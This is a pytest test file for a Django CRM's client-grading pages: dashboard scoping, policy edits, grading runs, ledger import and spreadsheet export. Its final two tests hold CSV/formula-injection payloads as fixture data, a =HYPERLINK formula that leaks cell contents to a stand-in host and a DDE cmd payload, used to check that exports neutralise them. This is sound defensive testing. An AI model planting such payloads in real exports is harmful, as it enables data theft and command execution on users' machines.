"""Grading pages: the dashboard within each user's scope, the policy, runs, potential, ledger import."""

from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from crm.roles import Role
from grading import services
from grading.models import GradingPolicy, GradingRun, PotentialAssessment, SalesOrder
from tests.factories import ClientFactory
from tests.imports import confirm, csv_bytes, last_job, upload


@pytest.fixture
def graded(alice, bob, charlie):
    clients = {
        "alice_big": ClientFactory(owner=alice, name="Alice Big", code="AB1"),
        "bob_small": ClientFactory(owner=bob, name="Bob Small", code="BS1"),
        "charlie": ClientFactory(owner=charlie, name="Charlie Co", code="CC1"),
    }
    for key, amount in (("alice_big", 9000), ("bob_small", 100), ("charlie", 5000)):
        SalesOrder.objects.create(
            client=clients[key], ordered_on=date(2026, 6, 1), amount=Decimal(amount), margin=Decimal("0.1")
        )
    services.grading_run(as_of=date(2026, 11, 28))
    return clients


def names(rows):
    return {row.client.name for row in rows}


def test_manager_sees_the_team_and_an_account_manager_their_own(client, graded, manager, alice):
    client.force_login(manager)
    context = client.get(reverse("grading:dashboard")).context
    assert names(context["top_volume"]) == {"Alice Big", "Bob Small"}
    assert dict(context["distribution"])["A"] + dict(context["distribution"])["D"] == 2
    client.force_login(alice)
    assert names(client.get(reverse("grading:dashboard")).context["top_volume"]) == {"Alice Big"}


def test_other_roles_have_no_dashboard(client, make_user):
    client.force_login(make_user(Role.FRONT_DESK))
    assert client.get(reverse("grading:dashboard")).status_code == 403


def test_movers_between_runs(client, graded, manager):
    SalesOrder.objects.create(
        client=graded["bob_small"], ordered_on=date(2026, 11, 28), amount=Decimal(90000), margin=Decimal("0.3")
    )
    services.grading_run(as_of=date(2026, 11, 29))
    client.force_login(manager)
    movers = client.get(reverse("grading:dashboard")).context["movers"]
    moves = {m["client"].name: (m["before"], m["after"], m["up"]) for m in movers}
    assert moves["Bob Small"] == ("D", "A", True)
    assert moves["Alice Big"][0] == "A" and moves["Alice Big"][2] is False


def test_the_card_explains_the_level(client, graded, alice):
    client.force_login(alice)
    body = client.get(graded["alice_big"].get_absolute_url()).content.decode()
    assert 'data-testid="grade-explanation"' in body and "Why this level" in body
    assert "Volume" in body and "Profit" in body


def test_account_manager_records_potential_for_a_new_client(client, alice):
    new = ClientFactory(owner=alice)
    client.force_login(alice)
    client.post(reverse("grading:potential", args=[new.pk]), {"score": 4, "reason": "New branch opening"})
    assert PotentialAssessment.objects.get(client=new).score == 4


def test_potential_for_someone_elses_client_is_404(client, bob, alice):
    theirs = ClientFactory(owner=alice)
    client.force_login(bob)
    assert client.post(reverse("grading:potential", args=[theirs.pk]), {"score": 4, "reason": "x"}).status_code == 404


def test_manager_edits_the_policy_and_every_change_is_kept(client, manager):
    client.force_login(manager)
    data = {
        "window_months": 24,
        "volume_basis": "quantity",
        "weight_credit": 40,
        "weight_volume": 30,
        "weight_profit": 30,
        "weight_potential": 100,
        "threshold_a": 80,
        "threshold_b": 60,
        "threshold_c": 40,
        "discount_a": "10%",
        "discount_b": "6%",
        "discount_c": "3%",
        "discount_d": "",
    }
    assert client.post(reverse("grading:policy"), data).status_code == 302
    assert GradingPolicy.current().window_months == 24 and GradingPolicy.objects.count() == 2
    response = client.post(reverse("grading:policy"), {**data, "threshold_b": 90})
    assert "Thresholds must fall from A to C" in response.content.decode()


def test_account_managers_cannot_change_the_policy(client, alice):
    client.force_login(alice)
    assert client.get(reverse("grading:policy")).status_code == 403


def test_the_run_button_starts_a_run_once(client, manager, graded, django_capture_on_commit_callbacks):
    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("grading:run_start"))
    assert GradingRun.objects.filter(status="done").count() == 2  # yesterday's seed run + today's
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("grading:run_start"))
    assert GradingRun.objects.filter(status="done").count() == 2, "the same day and policy: nothing new"


def test_ledger_import_with_preview_all_or_nothing(client, alice, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    ClientFactory(owner=alice, code="L1")
    client.force_login(alice)
    header = "client_code,ordered_on,amount,quantity,product,margin"
    good = "L1,2026-10-01,1200,3,Tea,0.2"
    upload(client, csv_bytes(good, "ZZ9,2026-10-01,50,1,Tea,0.2", header=header), kind="orders")
    job = last_job()
    assert job.status == "invalid" and "No client with code ZZ9" in job.rows[1]["errors"][0]
    upload(client, csv_bytes(good, header=header), kind="orders")
    confirm(client, last_job())
    assert SalesOrder.objects.get().amount == Decimal("1200")


def test_excel_export_lists_my_grades(client, graded, alice):
    import io

    import openpyxl

    client.force_login(alice)
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(reverse("grading:export")).content)).active
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == ["AB1"]


@pytest.mark.parametrize("rows", [2, 30])
def test_dashboard_query_count_is_constant(client, manager, alice, rows, django_assert_max_num_queries):
    for n in range(rows):
        SalesOrder.objects.create(
            client=ClientFactory(owner=alice),
            ordered_on=date(2026, 6, 1),
            amount=Decimal(100 + n),
            margin=Decimal("0.1"),
        )
    services.grading_run(as_of=date(2026, 11, 27))
    services.grading_run(as_of=date(2026, 11, 28))
    client.force_login(manager)
    with django_assert_max_num_queries(16):
        assert client.get(reverse("grading:dashboard")).status_code == 200


def test_ledger_rows_are_entered_and_corrected_in_the_app(client, alice):
    from grading.models import Receivable

    mine = ClientFactory(owner=alice)
    client.force_login(alice)
    url = reverse("grading:ledger", args=[mine.pk])
    client.post(
        url,
        {
            "form": "order",
            "order-ordered_on": "2026-10-01",
            "order-amount": "500",
            "order-quantity": "2",
            "order-product": "Tea",
            "order-margin": "0.2",
        },
    )
    assert SalesOrder.objects.get(client=mine).amount == Decimal("500")
    response = client.post(
        url,
        {
            "form": "order",
            "order-ordered_on": "2026-10-01",
            "order-amount": "-5",
            "order-quantity": "1",
            "order-product": "",
            "order-margin": "3",
        },
    )
    assert set(response.context["order_form"].errors) >= {"margin"}
    client.post(
        url,
        {
            "form": "receivable",
            "receivable-invoice": "F-1",
            "receivable-amount": "500",
            "receivable-due_on": "2026-10-31",
            "receivable-paid_on": "",
            "receivable-delay_reason": "",
        },
    )
    receivable = Receivable.objects.get(invoice="F-1")
    response = client.post(
        reverse("grading:record_payment", args=[receivable.pk]), {"paid_on": "2026-11-10"}, follow=True
    )
    assert "record the reason" in response.content.decode()
    client.post(
        reverse("grading:record_payment", args=[receivable.pk]), {"paid_on": "2026-11-10", "delay_reason": "Cash flow"}
    )
    receivable.refresh_from_db()
    assert (receivable.paid_on, receivable.delay_reason) == (date(2026, 11, 10), "Cash flow")


def test_someone_elses_ledger_is_404(client, bob, alice):
    theirs = ClientFactory(owner=alice)
    client.force_login(bob)
    assert client.get(reverse("grading:ledger", args=[theirs.pk])).status_code == 404


def test_excel_export_writes_a_hostile_client_name_as_text_and_a_loss_as_a_number(client, alice):
    import io

    import openpyxl

    hostile = ClientFactory(owner=alice, code="EV1", name='=HYPERLINK("http://evil.example/?"&A3,"x")')
    SalesOrder.objects.create(client=hostile, ordered_on=date(2026, 6, 1), amount=Decimal(500), margin=Decimal("-0.2"))
    services.grading_run(as_of=date(2026, 11, 28))
    client.force_login(alice)
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(reverse("grading:export")).content)).active
    row = next(sheet.iter_rows(min_row=2))
    assert (row[1].value, row[1].data_type) == ('=HYPERLINK("http://evil.example/?"&A3,"x")', "s")
    assert (row[10].value, row[10].data_type) == (-100, "n"), "the profit stays a number"


@pytest.mark.parametrize(("fmt", "index"), [("csv", 0), ("xlsx", 1)])
def test_admin_ledger_export_writes_a_hostile_product_as_text_and_a_negative_margin_as_a_number(
    client, admin_user, fmt, index
):
    import csv
    import io

    import openpyxl

    SalesOrder.objects.create(
        client=ClientFactory(code="AD1"),
        ordered_on=date(2026, 6, 1),
        amount=Decimal(10),
        margin=Decimal("-0.25"),
        product="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    client.force_login(admin_user)
    fields = ["client", "ordered_on", "amount", "quantity", "product", "margin"]
    response = client.post(
        reverse("admin:grading_salesorder_export"),
        {"format": index, "resource": 0, **{f"salesorderresource_{name}": "on" for name in fields}},
    )
    if fmt == "csv":
        row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
        assert (row[4], row[5]) == ("'@SUM(1+1)*cmd|' /C calc'!A0", "-0.2500")
    else:
        row = next(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))
        assert (row[4].value, row[4].data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")
        assert (row[5].value, row[5].data_type) == (-0.25, "n")
